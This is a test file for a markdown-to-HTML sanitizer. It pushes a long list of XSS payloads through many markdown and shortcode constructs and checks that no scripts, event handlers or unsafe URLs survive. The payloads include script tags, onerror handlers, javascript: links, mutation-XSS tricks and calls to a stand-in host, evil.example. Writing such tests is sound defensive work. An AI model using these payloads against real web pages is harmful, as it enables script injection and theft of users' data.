import fc from "fast-check";
import { Window } from "happy-dom";
import type { Element, Root } from "hast";
import * as v from "valibot";
import { describe, expect, test } from "vitest";
import { answerSchema, serializeAnswer } from "../../../src/bundle/answer-schema.ts";
import { allowedElements } from "../../../src/content/markdown/html-names.ts";
import { urlToReferenceIndex } from "../../../src/content/reference.ts";

import { answerToHtml, convertBody } from "../../support/body-to-html.ts";

const window = new Window({ settings: { disableJavaScriptFileLoading: true, disableCSSFileLoading: true } });

const allowedProperties =
  /^(?:align|alt|ariaDescribedBy|ariaLabel|checked|cite|className|colSpan|data(?:FootnoteBackref|FootnoteRef|Footnotes|Lines|Title)|dateTime|dir|disabled|height|href|id|lang|open|reversed|rowSpan|scope|span|src|start|title|type|value|width)$/u;

function isSafeUrl(url: string): boolean {
  return /^(?:https?:\/\/|mailto:|#.)/iu.test(url) || urlToReferenceIndex(url) !== undefined;
}

/** Everything in a tree that is not on the allow-list. */
function findForbidden(parent: Root | Element): string[] {
  return parent.children.flatMap((node) => {
    if (node.type === "text") return [];
    if (node.type !== "element") return [node.type];
    const { tagName, properties } = node;
    const names = Object.keys(properties).filter((name) => !allowedProperties.test(name));
    const urls = [properties["href"], properties["src"]].filter(
      (url) => url !== undefined && !isSafeUrl(String(url)),
    );
    const classes = [properties["className"] ?? []].flat().filter((name) => !isOwnClass(String(name)));
    const own = [
      ...(allowedElements.has(tagName) ? [] : [tagName]),
      ...names,
      ...urls.map(String),
      ...classes.map(String),
    ];
    return [...own, ...findForbidden(node)];
  });
}

function isOwnClass(name: string): boolean {
  return /^(?:callout(?:-[a-z]+)?|tabs?|tab-label|card|language-\S+|footnotes|sr-only|task-list-item|contains-task-list|data-footnote-backref)$/u.test(
    name,
  );
}

/** Everything in rendered HTML that could run scripts or mislead, found in its DOM. */
function findDangers(html: string): string[] {
  const document = new window.DOMParser().parseFromString(`<body>${html}</body>`, "text/html");
  const forbidden =
    "script, style, iframe, object, embed, form, link, meta, base, template, svg, math, noscript, textarea";
  const dangers = [...document.querySelectorAll(forbidden)].map(({ tagName }) => tagName);
  for (const element of document.body.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on|^srcdoc$|^formaction$|^srcset$/iu.test(name)) dangers.push(`${element.tagName} ${name}`);
      if (
        /^(?:href|src|action|data|poster)$/iu.test(name) &&
        !/^(?:https?:\/\/|mailto:|\/(?![/\\])|#.)/iu.test(value ?? "")
      )
        dangers.push(`${name}=${value}`);
      if (name === "id" && !/^(?:section-|note-)/u.test(value ?? "")) dangers.push(`id=${value}`);
    }
  }
  return dangers;
}

const payloads = [
  "<script>alert(1)</script>",
  "<script src=//evil.example></script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script>alert(1)",
  "<img src=x onerror=alert(1)>",
  "<img src='javascript:alert(1)'>",
  '<img src="data:text/html,<script>alert(1)</script>">',
  "<img srcset='x 1x' src=https://a.example/a.png onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<style>@import '//evil.example/a.css'; body{display:none}</style>",
  "<div style='position:fixed;inset:0;background:url(//evil.example)'>a</div>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<base href='//evil.example/'>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<form action='//evil.example'><input name=password><button formaction='javascript:alert(1)'>a</button></form>",
  "<a href='javascript:alert(1)'>a</a>",
  "<a href='java&#10;script:alert(1)'>a</a>",
  "<a href=' &#1;javascript:alert(1)'>a</a>",
  "<a href='jav&Tab;ascript:alert(1)' onclick=alert(1) ping=//evil.example>a</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
  "<a href='vbscript:x' id=root name=root class=callout>a</a>",
  "<video src=x onerror=alert(1) poster='javascript:alert(1)'><source src='javascript:alert(1)' onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)><summary onclick=alert(1)>a</summary></details>",
  "<table background='javascript:alert(1)'><td background='javascript:alert(1)'><script>alert(1)</script></table>",
  "<p id=answer onmouseover=alert(1)>a",
  "<quire-block n=0><script>alert(1)</script></quire-block>",
  "<a quire='0' href='javascript:alert(1)'>a</a>",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo '<script>alert(1)</script>' ?>",
  "<div><div title='><script>alert(1)</script>'></div>",
  "[a](javascript:alert(1))",
  "[a](java&NewLine;script:alert(1))",
  "![a](javascript:alert(1))",
  "[a](https://a.example 'x\" onmouseover=\"alert(1)')",
  "[a]: javascript:alert(1)\n\n[a]",
  "<javascript:alert(1)>",
  "[[javascript:alert(1)|a]]",
  '![[x" onerror="alert(1).png]]',
  '{#x"><script>alert(1)</script>}',
  ':::{note title="<script>alert(1)</script>"}\na\n:::',
  '{{< youtube "javascript:alert(1)" >}}',
  '{{< youtube "x\\"><script>alert(1)</script>" >}}',
  '{{< figure src="javascript:alert(1)" caption="<img src=x onerror=alert(1)>" >}}',
  "{{< figure src='x\" onerror=\"alert(1)' >}}",
  '{% include figure image_path="javascript:alert(1)" alt=\'"><script>alert(1)</script>\' %}',
  "{{% def id='x\"><script>alert(1)</script>' name='<script>alert(1)</script>' %}}a{{% /def %}}",
  '<Link to="javascript:alert(1)">a</Link>',
  '<LinkCard title="a" href="javascript:alert(1)" />',
  '<YouTube id={"javascript:alert(1)"} />',
  '<Tabs><TabItem label="<script>alert(1)</script>">a</TabItem></Tabs>',
  "`<script>alert(1)</script>`",
  '```html title="<script>alert(1)</script>"\n<script>alert(1)</script>\n```',
  "<pre><code><script>alert(1)</script></code></pre>",
  "<code onclick=alert(1)>a<img src=x onerror=alert(1)></code>",
  "$<script>alert(1)</script>$",
];

/** Constructs into which each payload is put; `@` stands for it. */
const constructs = [
  "@",
  "text @ text",
  "# @",
  "- @",
  "> @",
  "> [!note] @\n> @",
  "> [!tip]- Title\n> @",
  '!!! note "@"\n    @',
  '??? note "Title"\n    @',
  '=== "@"\n    @',
  "::: tip @\n@\n:::",
  "::: tabs\n@tab @\n@\n:::",
  "<details><summary>@</summary>\n\n@\n\n</details>",
  "<div align=center>\n@\n</div>",
  "| @ |\n|--|\n| @ |",
  "Term @\n: @",
  "a[^1] ^[@]\n\n[^1]: @",
  "==@== ++@++ [[a|@]]",
  "{{< note >}}\n@\n{{< /note >}}",
  '{% hint style="info" %}\n@\n{% endhint %}',
  '<Tabs>\n<TabItem label="a">\n@\n</TabItem>\n</Tabs>',
  "<table><tr><td>@</td></tr></table>",
  "<p><b><i>@",
  "[@](https://a.example)",
  "![@](a.png)",
];

function findAll(body: string): string[] {
  const { answer } = convertBody(body);
  const inTree = answer.kind === "tree" ? findForbidden(answer.tree) : [];
  return [...inTree, ...findDangers(answerToHtml(answer))];
}

describe("nothing that runs or misleads is left", () => {
  test.each(payloads)("of %s in any construct", (payload) => {
    const bodies = constructs.map((construct) => construct.replaceAll("@", () => payload));
    // In both orders: what is not closed swallows the rest.
    for (const body of [payload, bodies.join("\n\n"), bodies.toReversed().join("\n\n")]) {
      expect(findAll(body)).toEqual([]);
    }
  });

  test("of any mixture of them", () => {
    const pieces = fc.constantFrom(
      ...payloads,
      ...constructs,
      "\n",
      "\n\n",
      "    ",
      "> ",
      "</div>",
      "</quire-block>",
      "`",
      "$",
      "-->",
      "{{<",
      "<!--",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        expect(findAll(parts.join(""))).toEqual([]);
      }),
      { numRuns: 100 },
    );
  }, 120_000);
});

describe("a tree", () => {
  test("is accepted by the schema that reads it, and has nothing but plain objects", () => {
    for (const payload of payloads) {
      const { answer } = convertBody(`<b>a</b> ${payload}`);
      const json: unknown = JSON.parse(JSON.stringify(serializeAnswer(answer)));
      expect(v.parse(answerSchema, json)).toEqual(answer);
    }
  });

  test.each([
    ["a script", { type: "element", tagName: "script", properties: {}, children: [] }],
    [
      "an event handler",
      { type: "element", tagName: "b", properties: { onClick: "alert(1)" }, children: [] },
    ],
    ["raw HTML", { type: "raw", value: "<script>" }],
    [
      "HTML for React",
      { type: "element", tagName: "b", properties: { dangerouslySetInnerHTML: "<b>" }, children: [] },
    ],
  ])("with %s is refused", (_, node) => {
    const answer = { kind: "tree", formulas: [], tree: { type: "root", children: [node] } };
    expect(v.safeParse(answerSchema, answer).success).toBe(false);
  });
});

test("deeply nested elements are shown without throwing", () => {
  const depth = 20_000;
  for (const body of [
    "<b>".repeat(depth),
    "> ".repeat(500),
    "<div>\n\n".repeat(2000),
    "??? a\n    ".repeat(300),
    "::: tip\n".repeat(2000),
  ]) {
    expect(findAll(body)).toEqual([]);
  }
}, 120_000);
